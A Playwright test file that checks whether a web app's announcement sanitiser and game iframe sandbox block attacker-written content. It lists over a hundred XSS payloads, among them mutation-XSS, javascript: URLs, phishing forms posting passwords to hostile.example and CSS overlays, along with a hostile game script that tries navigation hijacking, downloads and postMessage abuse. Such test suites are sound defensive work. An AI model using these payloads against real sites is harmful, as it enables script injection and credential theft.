import type { Page, Route } from "@playwright/test";
import { expect, home, leadTo, open, test } from "./support.ts";

/** Announcements and games written by an attacker, in a real browser. */

const MARK = "https://hostile.example";
/** Each is an announcement's content. `✗` is a call that must never run. */
const payloads: readonly string[] = [
  // Handlers, on elements that load, fail, animate, scroll, toggle or take the focus.
  "<img src=x onerror=✗>",
  "<IMG SRC=x OnErRoR=✗>",
  "<img/src=x/onerror=✗>",
  "<img src=x onerror\n=\n✗>",
  "<img src=x\u000conerror=✗>",
  "<img src='x' alt='`' onerror=✗ alt2='`'>",
  '<img src="x` `<script>✗</script>"` `>',
  "<img srcset='x 1x' onerror=✗>",
  "<picture><source srcset=x><img onerror=✗></picture>",
  "<image src=x onerror=✗>",
  "<video src=x onerror=✗></video>",
  "<video><source src=x onerror=✗></video>",
  "<video poster=x autoplay onloadstart=✗ src=/m/></video>",
  "<audio src=x onerror=✗></audio>",
  "<body onload=✗>",
  "<body onpageshow=✗>",
  "<svg onload=✗>",
  "<svg/onload=✗//",
  "<svg><animate onbegin=✗ attributeName=x dur=1s></svg>",
  "<svg><set onbegin=✗ attributeName=x></svg>",
  "<svg><animate attributeName=href values=javascript:✗ /><a href=x><text y=20>tap</text></a></svg>",
  "<svg><a xlink:href=javascript:✗><text y=20>tap</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>✗</script></svg>#x'></svg>",
  "<svg><script>✗</script></svg>",
  "<svg><script href=data:text/javascript,✗ /></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.✗</script>'></foreignObject></svg>",
  "<svg><style><img src=x onerror=✗></style></svg>",
  "<svg></p><style><a id='</style><img src=x onerror=✗>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=✗></style></mglyph></table></mtext></math>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=✗>'>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=✗></annotation-xml></math>",
  "<math href=javascript:✗>tap</math>",
  "<math><maction actiontype='statusline#x' xlink:href=javascript:✗>tap</maction></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=✗>",
  "<details open ontoggle=✗>x</details>",
  "<details><summary onclick=✗>tap</summary></details>",
  "<marquee onstart=✗>x</marquee>",
  "<p style='animation: spin 1s' onanimationstart=✗>x</p>",
  "<p style='transition: 1s' ontransitionend=✗ tabindex=0>x</p>",
  "<p tabindex=0 autofocus onfocus=✗>x</p>",
  "<p contenteditable autofocus onfocus=✗ onbeforeinput=✗>x</p>",
  "<p onpointerover=✗ onclick=✗ onmousedown=✗>tap</p>",
  "<p popover onbeforetoggle=✗ id=pop>x</p>",
  "<button popovertarget=pop>tap</button><div popover id=pop onbeforetoggle=✗>x</div>",
  "<p oncontentvisibilityautostatechange=✗ style='content-visibility:auto'>x</p>",
  "<xss onscrollend=✗ onclick=✗ style='overflow:auto'>tap</xss>",
  "<slot onslotchange=✗></slot>",
  "<dialog open oncancel=✗ onclose=✗>tap</dialog>",
  "<template><img src=x onerror=✗></template>",
  "<template shadowrootmode=open><img src=x onerror=✗></template>",
  "<div><template shadowrootmode=open><script>✗</script></template></div>",
  // Scripts, and elements that load documents.
  "<script>✗</script>",
  "<script src=data:text/javascript,✗></script>",
  "<script type=module>✗</script>",
  '<script type=importmap>{"imports":{"x":"data:text/javascript,✗"}}</script>',
  `<script type=speculationrules>{"prefetch":[{"urls":["${MARK}/prefetch"]}]}</script>`,
  "<scr<script>ipt>✗</scr</script>ipt>",
  "<script\n>✗</script\n>",
  "<<script>✗//<</script>",
  "<noscript><p title='</noscript><img src=x onerror=✗>'></noscript>",
  "<noembed><p title='</noembed><img src=x onerror=✗>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=✗>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=✗>'></xmp>",
  "<plaintext><img src=x onerror=✗>",
  "<textarea><p title='</textarea><img src=x onerror=✗>'></textarea>",
  "<title><p title='</title><img src=x onerror=✗>'></title>",
  "<style><p title='</style><img src=x onerror=✗>'></style>",
  "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=✗>'>",
  "<!--><img src=x onerror=✗>-->",
  "<!--!><img src=x onerror=✗>--!>",
  "<![CDATA[<img src=x onerror=✗>]]>",
  "<?xml-stylesheet href='javascript:✗'?><img src=x onerror=✗>",
  "<?xml ><img src=x onerror=✗>?>",
  "<iframe src=javascript:parent.✗></iframe>",
  "<iframe srcdoc='<script>parent.✗</script>'></iframe>",
  "<frameset onload=✗><frame src=javascript:parent.✗></frameset>",
  "<object data=javascript:✗></object>",
  "<object data='data:text/html,<script>parent.✗</script>'></object>",
  "<embed src=javascript:✗>",
  "<applet code=x onerror=✗></applet>",
  `<portal src='${MARK}/portal'></portal>`,
  `<fencedframe></fencedframe><iframe src='${MARK}/frame'></iframe>`,
  `<link rel=stylesheet href='${MARK}/style.css'>`,
  "<link rel=import href=data:text/html,<script>✗</script>>",
  `<link rel=manifest href='${MARK}/manifest'>`,
  `<style>@import '${MARK}/style.css'; body { display: none }</style>`,
  `<base href='${MARK}/'><a href='m/home'>tap</a>`,
  `<meta http-equiv=refresh content='0;url=${MARK}/refresh'>`,
  "<meta http-equiv=refresh content='0;url=javascript:✗'>",
  "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
  "<meta name=referrer content=unsafe-url><meta name=theme-color content=red>",
  "<html onclick=✗ dir=rtl lang=xx><p>x</p></html>",
  // Addresses.
  "<a href=javascript:✗>tap</a>",
  "<a href=JaVaScRiPt:✗>tap</a>",
  "<a href=' javascript:✗'>tap</a>",
  "<a href='java\tscript:✗'>tap</a>",
  "<a href='java\nscript:✗'>tap</a>",
  "<a href='&#106;avascript:✗'>tap</a>",
  "<a href='javascript&colon;✗'>tap</a>",
  "<a href='\u0001javascript:✗'>tap</a>",
  "<a href='java\u0000script:✗'>tap</a>",
  "<a href='\u00a0javascript:✗'>tap</a>",
  "<a href=vbscript:✗>tap</a>",
  "<a href='data:text/html,<script>opener.✗</script>'>tap</a>",
  `<a href='blob:${MARK}/x'>tap</a>`,
  `<a href='view-source:${MARK}'>tap</a>`,
  `<a href='filesystem:${MARK}/temporary/x'>tap</a>`,
  "<a href='intent://x#Intent;scheme=javascript;end'>tap</a>",
  "<map name=m><area shape=rect coords=0,0,99,99 href=javascript:✗></map><img usemap=#m src=/m/icons/icon-192.png width=99 height=99>",
  `<a href='#' ping='${MARK}/ping'>tap</a>`,
  "<form action=javascript:✗><button>tap</button></form>",
  `<form action='${MARK}/form'><input name=password type=password autofocus><button>tap</button></form>`,
  "<button formaction=javascript:✗>tap</button><input type=image src=x formaction=javascript:✗ onerror=✗>",
  "<isindex type=image src=x onerror=✗>",
  // Names that would shadow the document's own, and the site's.
  "<img name=cookie><img name=body><img name=getElementById><img name=createElement>",
  "<form id=documentElement><input name=attributes><input name=parentNode></form>",
  "<a id=livery name=livery href=x><a id=livery name=record href=javascript:✗></a></a>",
  "<div id=app aria-busy=true></div><div id=splash></div><div id=root></div>",
  "<p is=x-y slot=x part=x>x</p>",
  // Styles.
  "<p style='background:url(javascript:✗)'>x</p>",
  `<p style='behavior:url(#default#time2);-moz-binding:url(${MARK}/x)'>x</p>`,
  "<p style='width:expression(✗)'>x</p>",
  '<p style="x:</style><img src=x onerror=✗>">x</p>',
];

const announcement = (id: string, content: string, title = id) => ({
  id,
  title,
  content,
  image: "",
  popup: false,
  startTime: "2020-01-01T00:00:00Z",
  endTime: "2100-01-01T00:00:00Z",
  promoAnnouncementCategoryIds: [],
});

/** Lets the gateway answer these announcements. */
const answerWith = (site: Page, announcements: readonly object[]) =>
  site.route("**/wps/relay/MCSFE_getListAnnouncements?*", (route) =>
    route.fulfill({ json: { success: true, value: announcements } }),
  );

const show = async (site: Page, id: string) => {
  await leadTo(site, `/m/activity?id=${id}`);
  await expect(site.getByRole("heading", { level: 1, name: id, exact: true })).toBeVisible();
};

/**
 * Shows announcements one after the other, and taps everything that each article still has. Runs in the page, without
 * loading it anew. @returns by id what the article must not contain, as text; undefined where it was not shown
 */
async function visitAll(ids: readonly string[]) {
  const turn = () => new Promise((done) => setTimeout(done));
  const visit = async (id: string): Promise<readonly string[] | undefined> => {
    const isShown = () => document.querySelector("h1")?.textContent === id;
    history.pushState({}, "", `/m/activity?id=${id}`);
    dispatchEvent(new PopStateEvent("popstate"));
    for (const end = performance.now() + 1_000; !isShown() && performance.now() < end; ) await turn();
    if (!isShown()) return undefined;
    await turn();
    const article = document.querySelector("article")?.lastElementChild;
    const faults: string[] = [];
    const forbidden =
      /^(script|style|form|input|button|textarea|select|iframe|frame|object|embed|link|meta|base|template|svg|math|title|portal|noscript|slot)$/i;
    for (const element of article?.querySelectorAll("*") ?? []) {
      if (forbidden.test(element.nodeName)) faults.push(`element ${element.nodeName}`);
      for (const { name, value } of element.attributes) {
        const isScript = /^\s*(javascript|vbscript|data|blob|filesystem|intent|view-source):/i.test(
          value.replaceAll(/[^!-~\ufffd]/g, ""),
        );
        if (name.startsWith("on") || (isScript && name !== "style"))
          faults.push(`${element.nodeName} ${name}=${value}`);
      }
      for (const name of ["id", "name", "class", "slot"])
        if (element.hasAttribute(name)) faults.push(`${element.nodeName} with ${name}`);
    }
    for (const name of ["cookie", "body", "getElementById", "createElement", "documentElement"]) {
      const value = Reflect.get(document, name);
      if (value instanceof Element && article?.contains(value)) faults.push(`document.${name} is the article's`);
    }
    for (const element of document.querySelectorAll("article *")) {
      element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
      element.dispatchEvent(new Event("toggle"));
    }
    // What begins with a frame has begun, and a link `#` is followed, before the next announcement.
    await new Promise(requestAnimationFrame);
    await turn();
    return faults;
  };
  const found: Record<string, readonly string[] | undefined> = {};
  for (const id of ids) {
    // Again, where a link `#` of the last one was still being followed.
    for (let times = 0; times < 10 && !found[id]; times++) found[id] = await visit(id);
  }
  return found;
}

// The parser refuses handlers and addresses of a base already while it reads them, before they are removed.
test.use({ allowErrors: /^(Executing inline event handler|Setting the document's base URI) .*violates/ });

test("no HTML of an announcement runs a script, loads a document or leads the page away", async ({ site, context }) => {
  test.setTimeout(120_000);
  const ran: string[] = [];
  await context.exposeBinding("hostile", (_, index: number) => void ran.push(payloads[index] ?? ""));
  site.on("dialog", (dialog) => dialog.dismiss());
  context.on("request", (request) => {
    const outside = request.url().startsWith(MARK) || request.frame().parentFrame() !== null;
    if (outside && request.resourceType() !== "image") ran.push(`${request.resourceType()} ${request.url()}`);
  });
  await answerWith(site, [
    announcement("plain", "<p>The sanitiser is loaded.</p>"),
    ...payloads.map((payload, index) => announcement(`n${index}`, payload.replaceAll("✗", `hostile(${index})`))),
  ]);
  await open(site, home("lotus", "/m/news"));
  await show(site, "plain");
  await expect(site.locator("article [dir] > p")).toBeVisible();
  const found = await site.evaluate(
    visitAll,
    payloads.map((_, index) => `n${index}`),
  );
  for (const [index, payload] of payloads.entries()) expect.soft(found[`n${index}`], payload).toEqual([]);
  expect(new URL(site.url()).origin).toBe(new URL(home("lotus")).origin);
  expect(ran).toEqual([]);
});

test("no style of an announcement covers the site", async ({ site }) => {
  const cover = "position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red";
  const styles = [
    cover,
    cover.replace("fixed", "absolute"),
    "position:sticky;top:0;height:300vh;z-index:99;background:red",
    "margin:-900px -90px;height:300vh;background:red;position:relative;z-index:99",
    "transform:translateY(-50%) scale(9);height:100vh;background:red",
    "translate:0 -500px;scale:9;height:100vh;background:red;position:relative;z-index:99",
    "box-shadow:0 0 0 9999px red;outline:9999px solid red;position:relative;z-index:99",
    "filter:drop-shadow(0 -300px red);height:300px;background:red",
  ];
  const link = (style: string) => `<a href="${MARK}/log-in" style="display:block;${style}">Log in</a>`;
  await answerWith(
    site,
    styles.map((style, index) => announcement(`n${index}`, `<p>x</p>${link(style)}`)),
  );
  await open(site, home("lotus", "/m/news"));
  for (const [index, style] of styles.entries()) {
    await show(site, `n${index}`);
    await expect(site.locator("article [dir] > p")).toBeVisible();
    const covered = await site.evaluate(() => {
      const prose = document.querySelector("article [dir] > p")?.parentElement;
      return [...document.querySelectorAll("header a, header button, nav a, article h1")].filter((element) => {
        const { x, y, width, height } = element.getBoundingClientRect();
        const top = document.elementFromPoint(x + width / 2, y + height / 2);
        return top && prose?.contains(top);
      }).length;
    });
    expect.soft(covered, style).toBe(0);
    // What is painted only, a shadow, takes no tap: the header looks as it did.
    expect
      .soft(
        await site.evaluate(
          () => getComputedStyle(document.querySelector("article [dir] > p")?.parentElement ?? document.body).contain,
        ),
        style,
      )
      .toMatch(/layout.*paint|content|strict/);
  }
});

test("markup in names, titles and messages of the gateway is text", async ({ site }) => {
  const markup = "<img src=x onerror=hostile()>";
  const told = (value: unknown, key = ""): unknown => {
    if (Array.isArray(value)) return value.map((entry) => told(entry));
    if (typeof value === "object" && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, told(part, name)]));
    return typeof value === "string" && /name|title|message|league|team|home|away/i.test(key) ? value + markup : value;
  };
  await site.route("**/wps/**", async (route) => {
    const response = await route.fetch({
      url: route
        .request()
        .url()
        .replace(/\/\/[^/:]+/, "//127.0.0.1"),
      headers: { ...route.request().headers(), host: new URL(route.request().url()).host },
    });
    const type = response.headers()["content-type"] ?? "";
    if (!type.includes("json")) return route.fulfill({ response });
    return route.fulfill({ response, json: told(await response.json()) });
  });
  let shown = 0;
  await open(site, home("carnaval"));
  for (const [path, sign] of [
    ["/m/home", ".hero-title"],
    ["/m/game", "input[type=search]"],
    ["/m/news", "a[href*=activity]"],
  ] as const) {
    await leadTo(site, path);
    await expect(site.getByRole("main").locator(sign).first(), path).toBeVisible();
    await expect(site.getByRole("main").getByText(markup).first(), path).toBeAttached();
    shown += await site.getByText(markup).count();
    expect(await site.locator("[onerror]").count()).toBe(0);
  }
  expect(shown).toBeGreaterThan(10);
});

const game = `${MARK}/game`;
const attack = `
  const tell = (part) => { try { part() } catch {} };
  addEventListener("click", () => {
    tell(() => { top.location = "${MARK}/away" });
    tell(() => { top.location.replace("${MARK}/away") });
    tell(() => open("${MARK}/away", "_top"));
    tell(() => open("${MARK}/away", "_parent"));
    tell(() => { const a = document.createElement("a"); a.href = "${MARK}/away"; a.target = "_top"; a.click() });
    tell(() => { const f = document.createElement("form"); f.action = "${MARK}/away"; f.target = "_top"; document.body.append(f); f.submit() });
    tell(() => { const a = document.createElement("a"); a.href = "data:,x"; a.download = "x.apk"; a.click() });
    tell(() => alert(1)); tell(() => confirm(1)); tell(() => prompt(1)); tell(() => print());
    tell(() => top.document.title);
    tell(() => { top.localStorage.stolen = 1 });
    tell(() => open("${MARK}/popup"));
  });
`;
const message = `
  const send = (data) => { try { parent.postMessage(data, "*") } catch {} };
  const circular = { type: "livery:title" }; circular.title = circular;
  for (const data of [null, undefined, 0, "livery:back", '{"type":"livery:back"}', [], ["livery:back"], [{ type: "livery:back" }],
    { type: ["livery:back"] }, { type: { toString: 1 } }, { type: "livery:Back" }, { type: "livery:title" },
    { type: "livery:title", title: { length: 1 } }, { type: "livery:title", title: ["x"] }, circular, new Map([["type", "livery:back"]]),
    { type: "livery:open", url: "${MARK}" }, { type: "livery:navigate", path: "/m/member/home" }, { type: "__proto__" }, new Error("livery:back"),
    { type: "livery:token" }, new ArrayBuffer(8), { type: new String("livery:back") }]) send(data);
  send({ type: "livery:title", title: "<b>named</b>" });
`;

/** Serves an attacker's pages, to windows that the page opens, too. */
async function serve(site: Page, addresses: string, pages: Readonly<Record<string, string>>) {
  const answer = (route: Route) => {
    const body = pages[new URL(route.request().url()).pathname];
    return body === undefined ? route.fulfill({ status: 404 }) : route.fulfill({ contentType: "text/html", body });
  };
  await site.route(addresses, answer);
  await site.context().route(addresses, answer);
}

/** Serves the attacker's pages, and opens the game of this script. */
async function play(site: Page, script: string, pages: Readonly<Record<string, string>> = {}) {
  await serve(site, `${MARK}/**`, { "/game": `<button>Play</button><script>${script}</script>`, ...pages });
  await site.route("**/wps/relay/GCS_gameTrialLaunch?*", (route) =>
    route.fulfill({ json: { success: true, value: { gameUrl: game } } }),
  );
  await open(site, home("lotus", "/m/launchGame?playType=trial&gameId=x&nodeId=1&title=Game"));
  await expect(site.frameLocator("iframe").getByRole("button", { name: "Play" })).toBeVisible();
}

test.describe("a hostile game", () => {
  // What the browser says about each refused attempt.
  test.use({ allowErrors: /sandbox|Unsafe attempt|Failed to|Blocked|permission|cross-origin/i });

  test("can't lead the page away, open dialogs over it, start downloads or read it, after a tap either", async ({
    site,
    context,
  }) => {
    const seen: string[] = [];
    site.on("dialog", (dialog) => {
      seen.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    site.on("download", (download) => seen.push(`download ${download.url()}`));
    context.on("request", (request) => {
      if (request.url().endsWith("/away")) seen.push(request.url());
    });
    const leads = `try { opener.top.location = "${MARK}/away" } catch {} try { opener.parent.location = "${MARK}/away" } catch {}
      try { opener.top.postMessage({ type: "livery:back" }, "*") } catch {} document.title = "tried"`;
    await play(site, attack, { "/popup": `<script>${leads}</script>` });
    const address = site.url();
    const [popup] = await Promise.all([
      site.waitForEvent("popup"),
      site.frameLocator("iframe").getByRole("button", { name: "Play" }).click(),
    ]);
    await expect(popup).toHaveTitle("tried");
    await popup.close();
    await expect(site.getByRole("heading", { level: 1, name: "Game" })).toBeVisible();
    expect(site.url()).toBe(address);
    expect(await site.evaluate(() => localStorage.getItem("stolen"))).toBeNull();
    expect(seen).toEqual([]);
  });

  test("is heard only by messages of the right shape, from its own window and origin", async ({ site }) => {
    const back = `<script>top.postMessage({ type: "livery:back" }, "*")</script>`;
    const inner = `const frame = document.createElement("iframe"); frame.src = "${MARK}/inner"; document.body.append(frame);`;
    await play(site, message + inner, { "/inner": back });
    const address = site.url();
    await expect(site.getByRole("heading", { level: 1, name: "<b>named</b>" })).toBeVisible();
    // Another origin in the game's frame.
    await serve(site, "https://other.example/**", { "/": `<p>other</p>${back}` });
    const frame = site.frames().find((one) => one.url() === game);
    await frame?.evaluate(() => location.assign("https://other.example/"));
    await expect(site.frameLocator("iframe").getByText("other")).toBeVisible();
    expect(site.url()).toBe(address);
    // The right one is heard.
    await frame?.evaluate((url) => location.assign(url), game);
    await expect(site.frameLocator("iframe").getByRole("button", { name: "Play" })).toBeVisible();
    await frame?.evaluate(() => parent.postMessage({ type: "livery:back" }, "*"));
    await expect(site).toHaveURL(/\/m\/home/);
  });
});
